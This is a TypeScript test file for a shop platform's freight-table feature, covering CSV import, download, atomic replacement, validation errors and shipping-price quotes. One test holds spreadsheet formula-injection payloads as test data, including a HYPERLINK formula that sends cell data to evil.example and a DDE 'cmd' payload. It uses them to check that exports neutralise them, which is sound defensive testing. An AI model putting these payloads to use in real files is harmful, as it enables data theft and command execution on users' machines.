// Freight tables: import, read back, replace atomically, refuse bad
// spreadsheets, and price quotes from them (spec-notes Q8, Q9), on every database.
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FREIGHT_IMPORT_STALE_MS, importFreightTable } from '../../src/shipping/freight/freight-table-store.js';
import { createTestPlatform, pollUntil, type TestPlatform, testDatabaseTargets } from '../../src/testing.js';
import {
  CLAIMING_ROWS,
  distinctRows,
  putTable,
  quote,
  shown,
  storeWithSettings,
  tableUrl,
  uploadTable,
  VTEX_HEADER,
  vtexCsv,
} from './freight-kit.js';
import { addProducts, admin } from './shipping-kit.js';

// The store's main table. Decimal comma, `;`, three forms of TimeCost.
const MAIN = vtexCsv([
  '01000000;01999999;SP capital;0;1000;10,50;1;2,00;;2.00:00:00;BRA;0',
  '01000000;01999999;SP capital;1001;5000;15,00;2;3,50;50000;1.12:00:00;BRA;5,00',
  '20000000;28999999;RJ;0;5000;25,00;0;0;;72:00:00;BRA;',
]);
// A second table with a cubic-weight factor (300 kg/m³) and whole days.
const CUBIC = vtexCsv(['01000000;01999999;;0;1000;5;0;0;;4;BRA;0', '01000000;01999999;;1001;5000;9;0;1;;4;BRA;0']);

const PRODUCTS = [
  // 10 × 10 × 10 cm = 1,000 cm³, 400 g, R$ 100.00
  { sku: 'STD', price_cents: 10000, depth_cm: 10, height_cm: 10, width_cm: 10, weight_g: 400 },
  // R$ 10.00, 1,100 g
  { sku: 'CHEAP', price_cents: 1000, depth_cm: 10, height_cm: 10, width_cm: 10, weight_g: 1100 },
  // 40 × 40 × 40 cm = 64,000 cm³: over the 50,000 cm³ MaxVolume of the heavier row
  { sku: 'BIG', price_cents: 5000, depth_cm: 40, height_cm: 40, width_cm: 40, weight_g: 2000 },
  // 20 × 20 × 20 cm = 8,000 cm³ but 100 g: cubic weight 8,000 × 300 / 1,000 = 2,400 g
  { sku: 'LIGHT', price_cents: 5000, depth_cm: 20, height_cm: 20, width_cm: 20, weight_g: 100 },
];

describe.each(testDatabaseTargets())('freight tables on $dialect', (target) => {
  let platform: TestPlatform;
  let store: string;
  beforeAll(async () => {
    platform = await createTestPlatform(target);
    store = await storeWithSettings(platform, { method: 'freight_table' });
    await addProducts(platform, store, PRODUCTS);
    await uploadTable(platform, store, 'normal', MAIN, { name: 'Normal', distribution_center_id: 'CD-SP' });
  });
  afterAll(() => platform.close());

  describe('spec-notes Q9: pricing, each price and days computed by hand', () => {
    it('spec-notes Q9: decimal comma and PricePercent: 10,50 + 1% × 200.00 + 2,00 × 0.8 kg = 14.10 in 2 days', async () => {
      const body = await quote(platform, store, '01310100', [{ sku: 'STD', quantity: 2 }]);
      expect(body.available).toBe(true);
      expect(body.packages[0]?.options).toEqual([
        {
          id: 'normal',
          name: 'Normal',
          price: 14.1,
          delivery_days: 2,
          type: 'conventional',
          origin: { distribution_center: { id: 'CD-SP' } },
          source: 'freight_table',
          labels: ['fastest', 'cheapest'],
        },
      ]);
    });

    it('spec-notes Q9: extra weight over WeightStart: 1,200 g → 15,00 + 2% × 300.00 + 3,50 × 0.199 kg = 21.70; TimeCost 1.12:00:00 → 2 days', async () => {
      const body = await quote(platform, store, '01310100', [{ sku: 'STD', quantity: 3 }]);
      expect(shown(body)).toEqual([['normal', 21.7, 2, ['fastest', 'cheapest']]]);
    });

    it('spec-notes Q9: MinimumValueInsurance when larger: 15,00 + max(2% × 10.00, 5,00) + 3,50 × 0.099 kg = 20.35', async () => {
      const body = await quote(platform, store, '01310100', [{ sku: 'CHEAP', quantity: 1 }]);
      expect(shown(body)).toEqual([['normal', 20.35, 2, ['fastest', 'cheapest']]]);
    });

    it('spec-notes Q9: TimeCost hh:mm:ss (72:00:00 → 3 days) and an empty insurance cell: 25.00', async () => {
      const body = await quote(platform, store, '20040002', [{ sku: 'STD', quantity: 1 }]);
      expect(shown(body)).toEqual([['normal', 25, 3, ['fastest', 'cheapest']]]);
    });

    it('spec-notes Q9: a package over MaxVolume finds no row: shipping unavailable', async () => {
      const body = await quote(platform, store, '01310100', [{ sku: 'BIG', quantity: 1 }]);
      expect(body.available).toBe(false);
      expect(body.reason?.code).toBe('no_freight_rate');
    });

    it('spec-notes Q9: a zipcode outside every range (and between two ranges) finds no row: shipping unavailable', async () => {
      for (const zipcode of ['99000000', '05000000', '00999999']) {
        const body = await quote(platform, store, zipcode, [{ sku: 'STD', quantity: 1 }]);
        expect(body.available).toBe(false);
        expect(body.reason?.code).toBe('no_freight_rate');
      }
    });

    it('spec-notes Q9: ranges are inclusive at both ends', async () => {
      for (const zipcode of ['01000000', '01999999']) {
        const body = await quote(platform, store, zipcode, [{ sku: 'STD', quantity: 1 }]);
        // 400 g: 10,50 + 1% × 100.00 + 2,00 × 0.4 kg = 12.30
        expect(shown(body)).toEqual([['normal', 12.3, 2, ['fastest', 'cheapest']]]);
      }
    });

    it('spec-notes Q9 / Q5: cubic weight and two tables: each table one option, the fastest and the cheapest shown', async () => {
      const other = await storeWithSettings(platform, { method: 'freight_table' });
      await addProducts(platform, other, PRODUCTS);
      await uploadTable(platform, other, 'normal', MAIN, { name: 'Normal' });
      await uploadTable(platform, other, 'cubic', CUBIC, { name: 'Cubic', cubic_weight_factor: '300' });
      const body = await quote(platform, other, '01310100', [{ sku: 'LIGHT', quantity: 1 }]);
      // normal (no factor, 100 g): 10,50 + 1% × 50.00 + 2,00 × 0.1 kg = 11.20 in 2 days.
      // cubic (2,400 g cubic > 100 g): 9 + 0 + 1 × 1.399 kg = 10.40 in 4 days.
      expect(shown(body)).toEqual([
        ['normal', 11.2, 2, ['fastest']],
        ['cubic', 10.4, 4, ['cheapest']],
      ]);
    });
  });

  it('spec-notes Q8: GET gives the summary, or with Accept: text/csv the rows; the list follows the list conventions; DELETE removes', async () => {
    const tenant = await storeWithSettings(platform, { method: 'freight_table' });
    // `,` between cells, decimal points, lower-case headers in another order, a BOM.
    const csv = `\uFEFFzipcodeend,zipcodestart,weightstart,weightend,absolutemoneycost,timecost\n01999999,01000000,0,1000,7.5,3\n`;
    const created = await putTable(platform, tenant, 'eco', csv, { name: 'Econômica' });
    expect(created.statusCode).toBe(201);
    expect(created.json()).toEqual(
      expect.objectContaining({ id: 'eco', name: 'Econômica', row_count: 1, cubic_weight_factor: null }),
    );
    const replaced = await putTable(platform, tenant, 'eco', MAIN, {});
    expect(replaced.statusCode).toBe(200);
    expect(replaced.json()).toEqual(expect.objectContaining({ id: 'eco', name: 'Econômica', row_count: 3 }));

    const summary = await platform.app.inject({ method: 'GET', url: tableUrl(tenant, 'eco'), headers: admin });
    expect(summary.json()).toEqual(expect.objectContaining({ id: 'eco', row_count: 3 }));
    const rows = await platform.app.inject({
      method: 'GET',
      url: tableUrl(tenant, 'eco'),
      headers: { ...admin, accept: 'text/csv' },
    });
    expect(rows.headers['content-type']).toBe('text/csv; charset=utf-8');
    // Uploaded with decimal commas, downloaded with them (D62).
    expect(rows.body.split('\r\n')).toEqual([
      VTEX_HEADER,
      '01000000;01999999;SP capital;0;1000;10,50;1;2,00;;2.00:00:00;BRA;0,00',
      '01000000;01999999;SP capital;1001;5000;15,00;2;3,50;50000;1.12:00:00;BRA;5,00',
      '20000000;28999999;RJ;0;5000;25,00;0;0,00;;72:00:00;BRA;0,00',
      '',
    ]);

    await uploadTable(platform, tenant, 'express', MAIN, { name: 'Expressa' });
    const list = await platform.app.inject({
      method: 'GET',
      url: `/admin/v1/tenants/${tenant}/shipping/freight-tables?_sort=name:desc&_limit=1`,
      headers: admin,
    });
    expect(list.statusCode).toBe(200);
    expect(list.json().results.map((t: { id: string }) => t.id)).toEqual(['express']);
    expect(list.json().meta.total).toBe(2);
    const badFilter = await platform.app.inject({
      method: 'GET',
      url: `/admin/v1/tenants/${tenant}/shipping/freight-tables?colour=red`,
      headers: admin,
    });
    expect(badFilter.statusCode).toBe(422);

    const deleted = await platform.app.inject({ method: 'DELETE', url: tableUrl(tenant, 'eco'), headers: admin });
    expect(deleted.statusCode).toBe(204);
    const gone = await platform.app.inject({ method: 'GET', url: tableUrl(tenant, 'eco'), headers: admin });
    expect(gone.statusCode).toBe(404);
    const again = await platform.app.inject({ method: 'DELETE', url: tableUrl(tenant, 'eco'), headers: admin });
    expect(again.statusCode).toBe(404);
  });

  it('spec-notes Q8: a cell with a backslash, a tab, a quote and a line break is stored as uploaded and read back whole', async () => {
    const tenant = await storeWithSettings(platform, { method: 'freight_table' });
    const name = 'Zona \\N\t"sul"\nB';
    const csv = vtexCsv([`01000000;01999999;"${name.replaceAll('"', '""')}";0;1000;10;0;0;;2;BRA;0`]);
    expect((await putTable(platform, tenant, 'odd', csv, { name: 'Odd' })).statusCode).toBe(201);
    const rows = await platform.app.inject({
      method: 'GET',
      url: tableUrl(tenant, 'odd'),
      headers: { ...admin, accept: 'text/csv' },
    });
    // Uploading the download again gives the same download: nothing was lost or escaped twice.
    expect((await putTable(platform, tenant, 'again', rows.body, { name: 'Again' })).statusCode).toBe(201);
    const again = await platform.app.inject({
      method: 'GET',
      url: tableUrl(tenant, 'again'),
      headers: { ...admin, accept: 'text/csv' },
    });
    expect(again.body).toBe(rows.body);
    expect(rows.body).toContain(`;"${name.replaceAll('"', '""')}";0;1000;`);
  });

  it('spec-notes Q8, Q9: a table at the largest amount quotes it as a number; a cart that would price past it finds no rate, never null or 1e20', async () => {
    const tenant = await storeWithSettings(platform, { method: 'freight_table' });
    await addProducts(platform, tenant, [...PRODUCTS, { sku: 'HEAVY', price_cents: 100, weight_g: 2_000_000 }]);
    // 0–1 kg: R$ 100,000,000,000.00 flat, the largest amount. Above: R$ 1 + 100,000,000,000 per kg over 1 kg.
    const csv = vtexCsv([
      '01000000;01999999;;0;1000;100000000000;0;0;;365;BRA;0',
      '01000000;01999999;;1001;1000000000;1;0;100000000000;1000000000000;1;BRA;0',
    ]);
    expect((await putTable(platform, tenant, 'dear', csv, { name: 'Dear' })).statusCode).toBe(201);
    const largest = await quote(platform, tenant, '01310100', [{ sku: 'STD', quantity: 1 }]);
    expect(shown(largest)).toEqual([['dear', 100_000_000_000, 365, ['fastest', 'cheapest']]]);
    const past = await quote(platform, tenant, '01310100', [{ sku: 'HEAVY', quantity: 1 }]);
    expect(past.available).toBe(false);
    expect(past.reason?.code).toBe('no_freight_rate');

    const factor = await putTable(platform, tenant, 'dear', csv, { cubic_weight_factor: '9'.repeat(401) });
    expect(factor.statusCode).toBe(422);
    expect(factor.json().details).toEqual([
      expect.objectContaining({ field: 'cubic_weight_factor', location: 'query', message: expect.stringContaining('at most') }),
    ]);
  });

  it('spec-notes Q8: the download neutralises text cells a spreadsheet would run as formulas, and imports again to the same table', async () => {
    const tenant = await storeWithSettings(platform, { method: 'freight_table' });
    await addProducts(platform, tenant, PRODUCTS);
    const hostile = [
      ['=HYPERLINK("http://evil.example/?"&A1,"Clique")', 'BRA'],
      ["+cmd|' /C calc'!A0", '@SUM(1+1)'],
      ['-2+3', '=1+1'],
      ['Zona norte', 'BRA'],
    ];
    const cell = (text: string) => (/[";]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
    const csv = vtexCsv(
      hostile.map(
        ([polygon, country], i) =>
          `0${i + 1}000000;0${i + 1}999999;${cell(polygon as string)};0;1000;10,5;1;2;;2;${cell(country as string)};0`,
      ),
    );
    expect((await putTable(platform, tenant, 'hostile', csv, { name: 'Hostile' })).statusCode).toBe(201);
    const download = async (tableId: string) => {
      const res = await platform.app.inject({
        method: 'GET',
        url: tableUrl(tenant, tableId),
        headers: { ...admin, accept: 'text/csv' },
      });
      expect(res.statusCode).toBe(200);
      return res.body;
    };
    const first = await download('hostile');
    expect(first.split('\r\n')).toEqual([
      VTEX_HEADER,
      `01000000;01999999;"'=HYPERLINK(""http://evil.example/?""&A1,""Clique"")";0;1000;10,50;1;2,00;;2;BRA;0,00`,
      `02000000;02999999;"'+cmd|' /C calc'!A0";0;1000;10,50;1;2,00;;2;"'@SUM(1+1)";0,00`,
      `03000000;03999999;"'-2+3";0;1000;10,50;1;2,00;;2;"'=1+1";0,00`,
      '04000000;04999999;Zona norte;0;1000;10,50;1;2,00;;2;BRA;0,00',
      '',
    ]);
    // No cell of the download begins with a formula character, once its CSV quotes are taken off.
    const cells = first
      .split('\r\n')
      .flatMap((line) => line.split(';'))
      .map((c) => c.replace(/^"/, ''));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);

    // Round trip: the download imported as a table holds the same rows and downloads alike.
    expect((await putTable(platform, tenant, 'again', first, { name: 'Again' })).statusCode).toBe(201);
    expect(await download('again')).toBe(first);
    const stored = async (tableId: string) => {
      const table = await platform.database.db
        .selectFrom('freight_tables')
        .select('version_key')
        .where('owner', '=', tenant)
        .where('table_id', '=', tableId)
        .executeTakeFirstOrThrow();
      return platform.database.db
        .selectFrom('freight_rows')
        .select(['line_no', 'zip_start', 'zip_end', 'polygon_name', 'country', 'absolute_money_cost', 'time_cost'])
        .where('version_key', '=', table.version_key)
        .orderBy('line_no')
        .execute();
    };
    const rows = await stored('hostile');
    expect(rows.map((r) => [r.polygon_name, r.country])).toEqual(hostile);
    expect(await stored('again')).toEqual(rows);
    const priced = await quote(platform, tenant, '03500000', [{ sku: 'STD', quantity: 1 }]);
    // 10,50 + 1% × 100.00 + 2 × 0.4 kg = 12.30 in 2 days, from either table (Q5 shows one of the two equal options).
    expect(shown(priced).map(([, price, days]) => [price, days])).toEqual([[12.3, 2]]);
  });

  it('spec-notes Q8: while a table is being imported (by any process: the claim is in the database, taken with the first batch of rows, D124) a second import is refused with 409, and the first completes', async () => {
    const tenant = await storeWithSettings(platform, { method: 'freight_table' });
    const versions = () =>
      platform.database.db.selectFrom('freight_table_versions').select('key').where('table_id', '=', 'slow').execute();
    const body = new PassThrough();
    // An import claims its table with its first batch of rows (D124): send one batch and hold the rest back.
    body.write(vtexCsv(distinctRows(CLAIMING_ROWS)));
    const first = importFreightTable(
      platform,
      { owner: tenant, tableId: 'slow', name: 'Slow', distributionCenterId: null, cubicWeightFactor: null },
      body,
    );
    await pollUntil('the first import to claim the table', async () => ((await versions()).length === 1 ? true : undefined), {
      deadlineMs: 10_000,
    });

    const second = await putTable(platform, tenant, 'slow', MAIN, { name: 'Slow' });
    expect(second.statusCode).toBe(409);
    expect(second.json()).toEqual(
      expect.objectContaining({ slug: 'CONFLICT', message: expect.stringContaining('being imported') }),
    );
    expect(await versions()).toHaveLength(1); // the refused import left nothing behind

    body.end('01000000;01999999;;0;1000;10;0;0;;2;BRA;0\r\n');
    const done = await first;
    expect(done.ok && done.table.row_count).toBe(CLAIMING_ROWS + 1);
    const third = await putTable(platform, tenant, 'slow', MAIN, {});
    expect(third.statusCode).toBe(200);
    expect(third.json().row_count).toBe(3);
  });

  it('spec-notes Q8: an import a crash interrupted blocks the table for at most 10 minutes on SQLite (at once freed on PostgreSQL, whose claim ends with the session), and its rows are cleaned up by the next import', async () => {
    const tenant = await storeWithSettings(platform, { method: 'freight_table' });
    await uploadTable(platform, tenant, 'crashed', MAIN, { name: 'Crashed' });
    // What a process that died mid-import leaves: a version row newer than the current one.
    await platform.database.db
      .insertInto('freight_table_versions')
      .values({ owner: tenant, table_id: 'crashed', created_at: platform.clock.now().toISOString() })
      .execute();
    if (target.dialect === 'sqlite') {
      expect((await putTable(platform, tenant, 'crashed', MAIN, {})).statusCode).toBe(409);
      platform.clock.advance(FREIGHT_IMPORT_STALE_MS + 1000);
    }
    expect((await putTable(platform, tenant, 'crashed', MAIN, {})).statusCode).toBe(200);
    const left = await platform.database.db
      .selectFrom('freight_table_versions')
      .select('key')
      .where('owner', '=', tenant)
      .where('table_id', '=', 'crashed')
      .execute();
    expect(left).toHaveLength(2); // the current version and the one it replaced; the crashed one is gone
  });

  it('spec-notes R1, Q8: a money cell takes at most 2 decimal places, as every amount of the records: 12,905 is refused naming its line and column, 12,9 and 1.234,50 are taken', async () => {
    const tenant = await storeWithSettings(platform, { method: 'freight_table' });
    const refused = await putTable(
      platform,
      tenant,
      'centavos',
      vtexCsv(['01000000;01999999;;0;1000;12,905;0;0;;2;BRA;0', '02000000;02999999;;0;1000;10;0;0,125;;2;BRA;1.234,505']),
    );
    expect(refused.statusCode).toBe(422);
    expect(refused.json().details).toEqual([
      expect.objectContaining({
        field: 'lines.2.AbsoluteMoneyCost',
        message: 'line 2, AbsoluteMoneyCost: must be an amount with at most 2 decimal places',
      }),
      expect.objectContaining({ field: 'lines.3.PriceByExtraWeight' }),
      expect.objectContaining({ field: 'lines.3.MinimumValueInsurance' }),
    ]);
    const taken = await putTable(
      platform,
      tenant,
      'centavos',
      vtexCsv(['01000000;01999999;;0;1000;12,9;0;0;;2;BRA;0', '02000000;02999999;;0;1000;1.234,50;1,125;0;;2;BRA;0']),
    );
    expect(taken.statusCode, taken.body).toBe(201);
  });

  it('spec-notes Q8: the admin token is required, a new table needs a name, the body must be text/csv', async () => {
    const anonymous = await platform.app.inject({
      method: 'PUT',
      url: tableUrl(store, 'x'),
      headers: { 'content-type': 'text/csv' },
      payload: MAIN,
    });
    expect(anonymous.statusCode).toBe(401);
    const nameless = await putTable(platform, store, 'nameless', MAIN, {});
    expect(nameless.statusCode).toBe(422);
    expect(nameless.json().details).toEqual([expect.objectContaining({ field: 'name', location: 'query' })]);
    const json = await platform.app.inject({
      method: 'PUT',
      url: tableUrl(store, 'x', { name: 'X' }),
      headers: admin,
      payload: { rows: [] },
    });
    expect(json.statusCode).toBe(415);
    const longId = await putTable(platform, store, 'x'.repeat(33), MAIN);
    expect(longId.statusCode).toBe(422);
    const unknownTenant = await putTable(platform, platform.app.platform.random.uuid(), 'x', MAIN);
    expect(unknownTenant.statusCode).toBe(404);
  });

  describe('spec-notes Q8: a bad spreadsheet is a 422 listing each bad cell, and the table keeps serving its previous rows', () => {
    const good = '01000000;01999999;;0;1000;10;0;0;;2;BRA;0';
    it.each([
      [
        'a missing column',
        'ZipCodeStart;ZipCodeEnd;WeightStart;AbsoluteMoneyCost;TimeCost\r\n01000000;01999999;0;10;2\r\n',
        ['lines.1.WeightEnd'],
      ],
      ['a non-numeric value', vtexCsv([good, '02000000;02999999;;0;1000;dez;0;0;;2;BRA;0']), ['lines.3.AbsoluteMoneyCost']],
      ['a missing value', vtexCsv([good, '02000000;02999999;;0;;10;0;0;;2;BRA;0']), ['lines.3.WeightEnd']],
      ['a start after the end (zipcode)', vtexCsv([good, '02999999;02000000;;0;1000;10;0;0;;2;BRA;0']), ['lines.3.ZipCodeStart']],
      [
        'a start after the end (weight)',
        vtexCsv([good, '02000000;02999999;;2000;1000;10;0;0;;2;BRA;0']),
        ['lines.3.WeightStart'],
      ],
      [
        'a zipcode not of 8 digits',
        vtexCsv(['1000000;01999999;;0;1000;10;0;0;;2;BRA;0', '02000000;0299999X;;0;1000;10;0;0;;2;BRA;0']),
        ['lines.2.ZipCodeStart', 'lines.3.ZipCodeEnd'],
      ],
      [
        'overlapping zipcode × weight ranges',
        vtexCsv([good, '01500000;02500000;;500;3000;10;0;0;;2;BRA;0']),
        ['lines.3.ZipCodeStart'],
      ],
      [
        'a cost of 401 digits',
        vtexCsv([good, `02000000;02999999;;0;1000;${'9'.repeat(401)};0;0;;2;BRA;0`]),
        ['lines.3.AbsoluteMoneyCost'],
      ],
      [
        'a cost of 20 digits',
        vtexCsv([good, '02000000;02999999;;0;1000;99999999999999999999;0;0;;2;BRA;0']),
        ['lines.3.AbsoluteMoneyCost'],
      ],
      [
        'a weight, a price per kg and a MaxVolume past their maximums',
        vtexCsv([good, '02000000;02999999;;0;1000000001;10;0;100000000001;1000000000001;2;BRA;0']),
        ['lines.3.WeightEnd', 'lines.3.PriceByExtraWeight', 'lines.3.MaxVolume'],
      ],
      ['a TimeCost past 365 days', vtexCsv([good, '02000000;02999999;;0;1000;10;0;0;;366.00:00:00;BRA;0']), ['lines.3.TimeCost']],
      [
        'a TimeCost that is not a duration',
        vtexCsv([good, '02000000;02999999;;0;1000;10;0;0;;two days;BRA;0']),
        ['lines.3.TimeCost'],
      ],
    ])('spec-notes Q8: %s', async (_name, csv, fields) => {
      const before = await quote(platform, store, '01310100', [{ sku: 'STD', quantity: 2 }]);
      const res = await putTable(platform, store, 'normal', csv, {});
      expect(res.statusCode).toBe(422);
      const body = res.json();
      expect(body.slug).toBe('UNPROCESSABLE_ENTITY');
      expect(body.details.map((d: { field: string }) => d.field)).toEqual(fields);
      expect(body.details[0]).toEqual(
        expect.objectContaining({
          location: 'body',
          slug: 'INVALID_PARAMETER_VALUE',
          message: expect.stringMatching(/^line \d+, /),
        }),
      );
      const after = await quote(platform, store, '01310100', [{ sku: 'STD', quantity: 2 }]);
      expect(shown(after)).toEqual(shown(before));
      expect(shown(after)).toEqual([['normal', 14.1, 2, ['fastest', 'cheapest']]]);
      const summary = await platform.app.inject({ method: 'GET', url: tableUrl(store, 'normal'), headers: admin });
      expect(summary.json().row_count).toBe(3);
    });

    it('spec-notes Q8: at most the first 100 problems are listed, with the count of all of them', async () => {
      const rows = Array.from(
        { length: 150 },
        (_, i) => `${String(i * 10).padStart(8, '0')};${String(i * 10 + 9).padStart(8, '0')};;0;1000;x;0;0;;2;BRA;0`,
      );
      const res = await putTable(platform, store, 'normal', vtexCsv(rows), {});
      expect(res.statusCode).toBe(422);
      expect(res.json().details).toHaveLength(100);
      expect(res.json().message).toContain('150 problem(s)');
    });
  });

  it('spec-notes Q8: a replace is atomic: quotes running during the import see the old table or the new one, never none or a mix', async () => {
    const tenant = await storeWithSettings(platform, { method: 'freight_table' });
    await addProducts(platform, tenant, PRODUCTS);
    // 6,000 rows of 10,000 zipcodes each: the zipcode quoted is in the last one, written last.
    const table = (price: number) =>
      vtexCsv(
        Array.from(
          { length: 6000 },
          (_, i) =>
            `${String(i * 10_000).padStart(8, '0')};${String(i * 10_000 + 9999).padStart(8, '0')};;0;5000;${price};0;0;;2;BRA;0`,
        ),
      );
    await uploadTable(platform, tenant, 'flat', table(10));
    const seen = new Set<string>();
    let importing = true;
    const replace = putTable(platform, tenant, 'flat', table(20), {}).finally(() => {
      importing = false;
    });
    let quotes = 0;
    while (importing || quotes < 5) {
      const body = await quote(platform, tenant, '59995000', [{ sku: 'STD', quantity: 1 }]);
      seen.add(body.available ? String(body.packages[0]?.options[0]?.price) : 'unavailable');
      quotes += 1;
    }
    expect((await replace).statusCode).toBe(200);
    expect([...seen].every((price) => price === '10' || price === '20')).toBe(true);
    const after = await quote(platform, tenant, '59995000', [{ sku: 'STD', quantity: 1 }]);
    expect(after.packages[0]?.options[0]?.price).toBe(20);
  });
});
